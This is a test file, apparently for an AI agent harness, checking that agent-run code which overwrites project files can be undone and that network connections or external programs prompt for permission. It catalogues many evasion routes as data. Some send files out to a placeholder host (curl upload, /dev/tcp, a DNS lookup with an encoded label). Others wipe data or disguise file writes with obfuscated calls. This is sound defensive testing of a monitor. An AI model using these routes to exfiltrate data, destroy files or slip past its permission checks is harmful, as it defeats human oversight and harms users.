@@ -1,0 +1,408 @@
+"""What agent code does in the kernel is seen in whatever spelling: files of the project that it overwrites come back
+with `%agent undo`, byte for byte, and each host and program is asked about once."""
+# ruff: noqa: E501 -- a way is read in one line
+
+from __future__ import annotations
+
+import json
+import socket
+import sqlite3
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from rooms import KEY, MODEL
+
+from ipyagent import Agent, IPyAgent
+from ipyagent.assembly.requests import NullSurface, Options
+from ipyagent.journal.events import PermissionAsked
+from ipyagent.journal.protocols import PermissionAnswer
+from ipyagent.practice.replies import text, tool
+from ipyagent.practice.server import PracticeServer
+
+CSV = b"a,b\r\n" + b"".join(f"{n},{n * 7 % 13}\n".encode() for n in range(40))
+
+
+class Person(NullSurface):
+    """Somebody who answers each question, by its title; everything is allowed unless a word says otherwise."""
+
+    can_ask = True
+
+    def __init__(self) -> None:
+        self.asked: list[PermissionAsked] = []
+        self.no: tuple[str, ...] = ()
+        self.wait = 0.0
+
+    async def ask(self, asked: PermissionAsked) -> PermissionAnswer:
+        import asyncio
+
+        self.asked.append(asked)
+        await asyncio.sleep(self.wait)
+        return PermissionAnswer("deny" if any(word in asked.title for word in self.no) else "once")
+
+
+class Desk:
+    """An agent in mode auto (unless `mode`) over a folder with raw data; `run` runs code as its model would."""
+
+    def __init__(self, place: Path, server: PracticeServer, **settings: Any) -> None:
+        self.folder, self.server, self.person = place / "project", server, Person()
+        self.folder.mkdir(exist_ok=True)
+        self.fill()
+        quiet = {"layer_notes": False, "extraction": False, "mode": "auto"}
+        made = IPyAgent(environ={}, base_url=server.url, model=MODEL, **{**quiet, **settings})
+        self.agent = Agent(settings=made, folder=self.folder)
+
+    def fill(self) -> None:
+        for name, data in RAW.items():
+            path = self.folder / name
+            path.parent.mkdir(exist_ok=True)
+            if not path.is_file() or path.read_bytes() != data:
+                path.write_bytes(data)
+                path.chmod(0o644)
+
+    def contents(self) -> dict[str, bytes]:
+        return {name: path.read_bytes() if (path := self.folder / name).is_file() else b"(gone)" for name in RAW}
+
+    def run(self, code: str) -> str:
+        """The result that the model reads."""
+        self.server.script(tool("python", {"code": code}), text("Done."))
+        ended = self.agent.prepare("go", Options(), self.person).run_blocking()
+        assert ended.status in ("finished", "stopped"), ended.message
+        body = self.server.messages[-1].body
+        assert body is not None
+        return str(body["messages"][-1]["content"])
+
+    def events(self, kind: type) -> list[Any]:
+        session = self.agent.session
+        return [event for event in session.journal.read() if isinstance(event, kind)] if session else []
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PracticeServer]:
+    place = tmp_path_factory.mktemp("watching")
+    with pytest.MonkeyPatch.context() as patch, PracticeServer() as made:
+        patch.setenv("IPYAGENT_HOME", str(place / "home"))
+        patch.setenv("ANTHROPIC_API_KEY", KEY)
+        yield made
+
+
+@pytest.fixture(scope="module")
+def desk(tmp_path_factory: pytest.TempPathFactory, server: PracticeServer) -> Iterator[Desk]:
+    place = tmp_path_factory.mktemp("desk")
+    with pytest.MonkeyPatch.context() as patch:
+        (place / "project").mkdir()
+        patch.chdir(place / "project")
+        made = Desk(place, server)
+        yield made
+        made.agent.close()
+
+
+@pytest.fixture
+def room(tmp_path: Path, server: PracticeServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
+    """Makes desks of the test's own."""
+    made: list[Desk] = []
+
+    def make(**settings: Any) -> Desk:
+        monkeypatch.chdir(tmp_path)
+        desk = Desk(tmp_path, server, **settings)
+        monkeypatch.chdir(desk.folder)
+        made.append(desk)
+        return desk
+
+    yield make
+    for desk in made:
+        desk.agent.close()
+
+
+def _raw() -> dict[str, bytes]:
+    """The raw files, by their paths."""
+    import io
+    import tempfile
+
+    import numpy as np
+    import pandas as pd
+
+    table = pd.DataFrame({"a": range(40), "b": [n * 7 % 13 for n in range(40)]})
+    made: dict[str, bytes] = {"raw.csv": CSV, "data/one.csv": CSV[::-1], "data/two.csv": CSV * 2, "raw.txt": b"one\ntwo\n"}
+    with tempfile.TemporaryDirectory() as place:
+        folder = Path(place)
+        for name, write in (
+            ("raw.parquet", table.to_parquet), ("raw.xlsx", table.to_excel), ("raw.json", table.to_json),
+            ("raw.pkl", table.to_pickle), ("raw.feather", table.to_feather),
+        ):  # fmt: skip
+            write(folder / name)
+            made[name] = (folder / name).read_bytes()
+        with sqlite3.connect(folder / "raw.db") as base:
+            base.execute("create table t (a int)")
+            base.execute("insert into t values (1), (2)")
+        base.close()
+        made["raw.db"] = (folder / "raw.db").read_bytes()
+    buffer = io.BytesIO()
+    np.save(buffer, np.arange(60.0))
+    made["raw.npy"] = buffer.getvalue()
+    cell = {"cell_type": "code", "source": "1", "metadata": {}, "outputs": [], "execution_count": None, "id": "a"}
+    made["raw.ipynb"] = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+    return made
+
+
+RAW = _raw()
+
+PD = "import pandas as pd\ndf = pd.DataFrame({'a': [9]})\n"
+NP = "import numpy as np\nx = np.zeros(3)\n"
+PL = "import polars as pl\ndf = pl.DataFrame({'a': [9]})\n"
+PA = "import pyarrow as pa, pyarrow.csv, pyarrow.parquet as pq, pyarrow.feather\nt = pa.table({'a': [9]})\n"
+OVERWRITES: dict[str, list[str]] = {
+    "pandas": [
+        "import pandas as pd\npd.read_csv('raw.csv').head(3).to_csv('raw.csv')", PD + "df.to_csv('raw.csv')",
+        PD + "df.to_csv('raw.csv', mode='a')", PD + "df.to_parquet('raw.parquet')", PD + "df.to_excel('raw.xlsx')",
+        PD + "df.to_json('raw.json')", PD + "df.to_pickle('raw.pkl')", PD + "df.to_feather('raw.feather')",
+        PD + "df.to_html('raw.txt')", PD + "df.to_csv(open('raw.csv', 'w'))",
+        PD + "with pd.ExcelWriter('raw.xlsx') as w:\n    df.to_excel(w)",
+        PD + "import sqlite3\ndf.to_sql('t', sqlite3.connect('raw.db'), if_exists='replace')",
+        PD + "import glob\nfor f in glob.glob('data/*.csv'):\n    df.to_csv(f)",
+    ],
+    "numpy, scipy, joblib, matplotlib, PIL": [
+        NP + "np.save('raw.npy', x)", NP + "np.savetxt('raw.txt', x)", NP + "x.tofile('raw.npy')",
+        NP + "np.savez(open('raw.npy', 'wb'), x)", NP + "m = np.memmap('raw.npy', mode='r+', shape=3)\nm[:] = 0\nm.flush()",
+        NP + "m = np.lib.format.open_memmap('raw.npy', mode='w+', shape=(3,))\nm.flush()",
+        "import joblib\njoblib.dump({}, 'raw.pkl')", NP + "import scipy.io\nscipy.io.savemat('raw.npy', {'x': x}, appendmat=False)",
+        "import matplotlib; matplotlib.use('agg')\nimport matplotlib.pyplot as plt\nplt.figure().savefig('raw.txt', format='png')",
+        "from PIL import Image\nImage.new('L', (2, 2)).save('raw.txt', 'png')",
+    ],
+    "open": [
+        "open('raw.csv', 'w')", "open('raw.csv', 'w').write('x')", "f = open('raw.csv', 'r+')\nf.write('xxxx')\nf.close()",
+        "open('raw.csv', 'ab').write(b'x')", "import io\nio.open('raw.csv', 'wb').close()", "import io\nio.FileIO('raw.csv', 'w').close()",
+        "import os\nos.close(os.open('raw.csv', os.O_WRONLY | os.O_TRUNC))", "import os\nos.close(os.open('raw.csv', os.O_RDONLY | os.O_TRUNC))",
+        "import os\nfd = os.open('raw.csv', os.O_RDWR)\nos.pwrite(fd, b'x', 0)\nos.close(fd)",
+        "import os\nfd = os.open('raw.csv', os.O_RDWR)\nos.ftruncate(fd, 3)\nos.close(fd)",
+        "import mmap\nwith open('raw.csv', 'r+b') as f:\n    m = mmap.mmap(f.fileno(), 0)\n    m[0:1] = b'x'\n    m.close()",
+        "import codecs\ncodecs.open('raw.csv', 'w', 'utf-8').close()", "import gzip\ngzip.open('raw.csv', 'wb').close()",
+        "import fileinput\nfor line in fileinput.input('raw.csv', inplace=True):\n    print('x')",
+        "exec(\"op\" + \"en('raw.csv', 'w')\")", "getattr(__builtins__, 'open', open)('raw' + chr(46) + 'csv', 'w')",
+        "print('x', file=open('raw.csv', 'w'))", "f = open('raw.csv', 'w')\nf.write('kept open, not flushed')",
+        "import logging\nlogging.FileHandler('raw.csv', 'w').close()", "import contextlib\nwith open('raw.csv', 'w') as f, contextlib.redirect_stdout(f):\n    print(1)",
+    ],
+    "pathlib": [
+        "from pathlib import Path\nPath('raw.csv').write_text('x')", "from pathlib import Path\nPath('raw.csv').write_bytes(b'x')",
+        "from pathlib import Path\nPath('raw.csv').open('w').close()", "from pathlib import Path\nPath('raw.csv').unlink()",
+        "from pathlib import Path\nPath('raw.txt').replace('raw.csv')", "from pathlib import Path\nPath('raw.csv').rename('new.csv')",
+        "from pathlib import Path\nfor p in Path('data').iterdir():\n    p.write_text('x')",
+        "from pathlib import Path\nPath('s').symlink_to('raw.csv')\nPath('s').write_text('x')",
+    ],
+    "os and shutil": [
+        "import os\nos.remove('raw.csv')", "import os\nos.rename('raw.txt', 'raw.csv')", "import os\nos.replace('raw.txt', 'raw.csv')",
+        "import os\nos.truncate('raw.csv', 2)", "import os\nos.link('raw.csv', 'l')\nopen('l', 'w').close()", "import os\nos.renames('raw.csv', 'x/y.csv')",
+        "import shutil\nshutil.copy('raw.txt', 'raw.csv')", "import shutil\nshutil.copyfile('raw.txt', 'raw.csv')", "import shutil\nshutil.move('raw.txt', 'raw.csv')",
+        "import shutil\nshutil.rmtree('data')", "import shutil\nshutil.copytree('data', '.', dirs_exist_ok=True)\nshutil.move('one.csv', 'raw.csv')",
+        "import os\nfd = os.open('.', os.O_RDONLY)\nos.unlink('raw.csv', dir_fd=fd)\nos.close(fd)",
+        "import os\nos.chdir('data')\nopen('../raw.csv', 'w').close()\nos.chdir('..')",
+        "import os, threading\nt = threading.Thread(target=lambda: open('raw.csv', 'w').close())\nt.start(); t.join()",
+        "import asyncio\nawait asyncio.to_thread(lambda: open('raw.csv', 'w').close())",
+        "import asyncio\nasync def f():\n    open('raw.csv', 'w').close()\nawait asyncio.create_task(f())",
+        "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(2) as p:\n    list(p.map(lambda n: open(n, 'w').close(), ['raw.csv', 'raw.txt']))",
+    ],
+    "pickle, archives, databases": [
+        "import pickle\npickle.dump(1, open('raw.pkl', 'wb'))", "import zipfile\nzipfile.ZipFile('raw.csv', 'w').writestr('a', 'x')",
+        "import zipfile\nwith zipfile.ZipFile('new.zip', 'w') as z:\n    z.writestr('raw.csv', 'x')\nzipfile.ZipFile('new.zip').extractall()",
+        "import tarfile\ntarfile.open('raw.csv', 'w').close()",
+        "import tarfile, io\nwith tarfile.open('new.tar', 'w') as t:\n    i = tarfile.TarInfo('raw.csv'); i.size = 1\n    t.addfile(i, io.BytesIO(b'x'))\ntarfile.open('new.tar').extractall()",
+        "import sqlite3\nc = sqlite3.connect('raw.db')\nc.execute('insert into t values (3)')\nc.commit()\nc.close()",
+        "import sqlite3\nc = sqlite3.connect('file:raw.db?mode=rw', uri=True)\nc.execute('drop table t')\nc.commit()\nc.close()",
+        "import shelve\nshelve.open('raw.db').close()" if sys.version_info >= (3, 13) else "import csv\ncsv.writer(open('raw.csv', 'w')).writerow([1])",
+        "import configparser\nconfigparser.ConfigParser({'a': '1'}).write(open('raw.txt', 'w'))", "import json\njson.dump(1, open('raw.json', 'w'))",
+    ],
+    "compiled code": [
+        "import polars as pl\npl.read_csv('raw.csv').head(3).write_csv('raw.csv')", PL + "df.write_csv('raw.csv')", PL + "df.write_parquet('raw.parquet')",
+        PL + "df.write_ipc('raw.feather')", PL + "df.write_json('raw.json')", PL + "df.lazy().sink_csv('raw.csv')", PL + "name = 'raw'\ndf.write_csv(f'{name}.csv')",
+        PL + "from pathlib import Path\nfor p in Path('data').glob('*.csv'):\n    df.write_csv(p)", PL + "out = 'raw' + '.csv'\ndf.write_csv(out)",
+        PA + "pq.write_table(t, 'raw.parquet')", PA + "pa.csv.write_csv(t, 'raw.csv')", PA + "pa.feather.write_feather(t, 'raw.feather')",
+        PA + "with pa.OSFile('raw.csv', 'w') as f:\n    f.write(b'x')", PA + "pq.write_to_dataset(t, 'data', basename_template='one{i}.csv')\nwith pa.OSFile('data/one.csv', 'wb') as f:\n    f.write(b'x')",
+    ],
+    "IPython and notebooks": [
+        "%%writefile raw.csv\nx", "%%writefile -a raw.csv\nx", "%%file raw.txt\nx", "name = 'raw.csv'\nget_ipython().run_cell_magic('writefile', name, 'x')",
+        "import nbformat\nnbformat.write(nbformat.v4.new_notebook(), 'raw.ipynb')", "%%capture out\nopen('raw.csv', 'w').close()",
+        "%%time\nopen('raw.csv', 'w').close()", "%timeit -n1 -r1 open('raw.csv', 'w').close()", "get_ipython().run_cell(\"open('raw.csv', 'w').close()\")",
+    ],
+    "commands": [
+        "!echo x > raw.csv", "!cp raw.txt raw.csv", "%%bash\necho x > raw.csv", "import subprocess\nsubprocess.run(['cp', 'raw.txt', 'raw.csv'])",
+        "import os\nos.system('echo x > raw.csv')", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'open(\"raw.csv\", \"w\")'])",
+        "x = !truncate -s 0 raw.csv", "import os\nos.popen('echo x > raw.csv').read()",
+        "import asyncio\np = await asyncio.create_subprocess_exec('cp', 'raw.txt', 'raw.csv')\nawait p.wait()",
+        "import os\nos.waitpid(os.posix_spawn('/bin/cp', ['cp', 'raw.txt', 'raw.csv'], {}), 0)",
+    ],
+}  # fmt: skip
+WAYS = [(kind, code) for kind, codes in OVERWRITES.items() for code in codes]
+
+
+def test_there_are_as_many_ways_as_were_found_by_attack() -> None:
+    assert len(WAYS) >= 85
+
+
+@pytest.mark.parametrize(("kind", "code"), WAYS, ids=[f"{kind}-{n}" for n, (kind, _) in enumerate(WAYS)])
+def test_a_raw_file_that_code_overwrites_comes_back_or_was_asked_about(desk: Desk, kind: str, code: str) -> None:
+    desk.fill()
+    desk.person.asked.clear()
+    before = desk.contents()
+    result = desk.run(code)
+    after = desk.contents()
+    try:
+        assert after != before, f"nothing was overwritten: {result}"
+        if kind == "commands":
+            assert desk.person.asked, "a program was not asked about"
+            assert all(asked.danger for asked in desk.person.asked)
+        else:
+            desk.agent.undo()
+            assert desk.contents() == before
+    finally:
+        for name in ("new.csv", "new.zip", "new.tar", "s", "l", "x"):
+            path = desk.folder / name
+            if path.is_dir():
+                for each in path.iterdir():
+                    each.unlink()
+                path.rmdir()
+            elif path.is_symlink() or path.exists():
+                path.unlink()
+
+
+# ------------------------------------------------------------------ sending
+
+
+class Listener:
+    """Hears TCP and UDP on an address of the loopback network that stands for another host."""
+
+    def __init__(self, host: str) -> None:
+        self.host, self.heard = host, 0
+        self._tcp = socket.create_server((host, 0))
+        self.port = self._tcp.getsockname()[1]
+        self._udp = socket.socket(type=socket.SOCK_DGRAM)
+        self._udp.bind((host, self.port))
+        for serve in (self._accept, self._receive):
+            threading.Thread(target=serve, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                connection, _ = self._tcp.accept()
+            except OSError:
+                return
+            self.heard += 1
+            connection.close()
+
+    def _receive(self) -> None:
+        while True:
+            try:
+                self.heard += bool(self._udp.recv(2_000))
+            except OSError:
+                return
+
+    def close(self) -> None:
+        for each in (self._tcp, self._udp):
+            each.shutdown(socket.SHUT_RDWR) if each is self._tcp else None
+            each.close()
+
+
+SENDS = {
+    "requests": "import requests\nrequests.post('http://HOST:PORT/', data=open('raw.csv', 'rb'), timeout=1)",
+    "requests session": "import requests\nwith requests.Session() as s:\n    s.get('http://HOST:PORT/?q=1', timeout=1)",
+    "httpx": "import httpx\nhttpx.post('http://HOST:PORT/', content=b'x', timeout=1)",
+    "httpx async": "import httpx\nasync with httpx.AsyncClient() as c:\n    await c.get('http://HOST:PORT/', timeout=1)",
+    "urllib": "import urllib.request\nurllib.request.urlopen('http://HOST:PORT/', b'x', timeout=1)",
+    "urllib3": "import urllib3\nurllib3.PoolManager(retries=False).request('PUT', 'http://HOST:PORT/', body=b'x', timeout=1)",
+    "http.client": "import http.client\nhttp.client.HTTPConnection('HOST', PORT, timeout=1).request('GET', '/')",
+    "socket": "import socket\nsocket.create_connection(('HOST', PORT), 1).sendall(b'x')",
+    "connect_ex": "import socket\ns = socket.socket()\ns.connect_ex(('HOST', PORT))\ns.close()",
+    "sendto": "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('HOST', PORT))",
+    "udp": "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.connect(('HOST', PORT))\ns.send(b'x')",
+    "sendmsg": "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('HOST', PORT))",
+    "smtplib": "import smtplib\nsmtplib.SMTP('HOST', PORT, timeout=1).sendmail('a@b', 'c@d', 'x')",
+    "ftplib": "import ftplib\nftplib.FTP().connect('HOST', PORT, timeout=1)",
+    "imaplib": "import imaplib\nimaplib.IMAP4('HOST', PORT, timeout=1)",
+    "asyncio": "import asyncio\nr, w = await asyncio.open_connection('HOST', PORT)\nw.write(b'x')",
+    "asyncio datagram": "import asyncio\nt, p = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, "
+    "remote_addr=('HOST', PORT))\nt.sendto(b'x')\nawait asyncio.sleep(.05)\nt.close()",
+    "thread": "import threading, urllib.request\nt = threading.Thread(target=urllib.request.urlopen, "
+    "args=('http://HOST:PORT/',), kwargs={'timeout': 1})\nt.start(); t.join()",
+    "to_thread": "import asyncio, urllib.request\nawait asyncio.to_thread(urllib.request.urlopen, 'http://HOST:PORT/', None, 1)",
+    "pandas": "import pandas as pd\npd.read_csv('http://HOST:PORT/x.csv')",
+    "websocket": "import websocket\nwebsocket.create_connection('ws://HOST:PORT/', timeout=1)",
+    "xmlrpc": "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://HOST:PORT/').f(1)",
+    "logging": "import logging.handlers as h, logging\nh.SysLogHandler(('HOST', PORT)).emit(logging.makeLogRecord({'msg': 'x'}))",
+    "multiprocessing": "from multiprocessing.connection import Client\nClient(('HOST', PORT))",
+    "own resolver": "import socket, requests\nsocket.getaddrinfo = lambda *a, **k: [(2, 1, 6, '', ('HOST', PORT))]\ntry:\n"
+    "    requests.get('http://files.example.org/', timeout=1)\nfinally:\n    import importlib; importlib.reload(socket)",
+}  # fmt: skip
+PROGRAMS = {
+    "curl": "import subprocess\nsubprocess.run(['curl', '-m1', '-T', 'raw.csv', 'http://HOST:PORT/'])",
+    "curl in a shell": "!curl -m1 --data-binary @raw.csv http://HOST:PORT/",
+    "bash": "%%bash\necho x > /dev/tcp/HOST/PORT",
+    "os.system": "import os\nos.system('curl -m1 http://HOST:PORT/')",
+    "python": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.create_connection((\"HOST\", PORT))'])",
+}
+_NUMBER = iter(range(20, 250))
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    made = Listener(f"127.0.0.{next(_NUMBER)}")
+    yield made
+    made.close()
+
+
+def _for(code: str, listener: Listener) -> str:
+    return code.replace("HOST", listener.host).replace("PORT", str(listener.port))
+
+
+@pytest.mark.parametrize("way", SENDS)
+def test_a_host_is_asked_about_once_and_hears_nothing_when_refused(desk: Desk, listener: Listener, way: str) -> None:
+    person, code = desk.person, _for(SENDS[way], listener)
+    person.asked, person.no = [], (listener.host,)
+    refused = desk.run(code)
+    time.sleep(0.02)
+    assert listener.heard == 0
+    assert [asked.title for asked in person.asked] == [f"Let this code connect to {listener.host}?"]
+    assert f"did not allow this code to connect to {listener.host}" in refused or way in ("thread", "logging"), refused
+    person.asked, person.no = [], ()
+    desk.run(code)
+    desk.run(code)
+    until = time.monotonic() + 2
+    while not listener.heard and time.monotonic() < until:
+        time.sleep(0.01)
+    assert listener.heard, "the way leads nowhere"
+    assert len(person.asked) == 1
+
+
+@pytest.mark.parametrize("way", PROGRAMS)
+def test_a_program_is_asked_about_once_and_does_not_start_when_refused(desk: Desk, listener: Listener, way: str) -> None:
+    person, code = desk.person, _for(PROGRAMS[way], listener)
+    person.asked, person.no = [], ("run ",)
+    refused = desk.run(code)
+    time.sleep(0.02)
+    assert listener.heard == 0
+    assert len(person.asked) == 1
+    assert "did not allow this code to run" in refused
+    assert listener.host in person.asked[0].text  # the whole command
+    person.asked, person.no = [], ()
+    desk.run(code)
+    desk.run(code)
+    assert len(person.asked) == 1
+
+
+def test_a_name_is_asked_about_before_it_is_looked_up(desk: Desk) -> None:
+    desk.person.asked, desk.person.no = [], ("example",)
+    result = desk.run("import socket\nsocket.getaddrinfo('c2VjcmV0.Example.org.', 80)")
+    assert "did not allow this code to connect to c2vjcmv0.example.org" in result
+    desk.person.no = ()
+
+
+def test_this_machine_is_not_asked_about(desk: Desk) -> None:
+    desk.person.asked = []
+    server = socket.create_server(("127.0.0.1", 0))
+    code = "import socket\nfor host in ('127.0.0.1', 'localhost'):\n    socket.create_connection((host, {})).close()"
+    result = desk.run(code.format(server.getsockname()[1]))
+    server.close()
+    assert "(no output)" in result
+    assert desk.person.asked == []
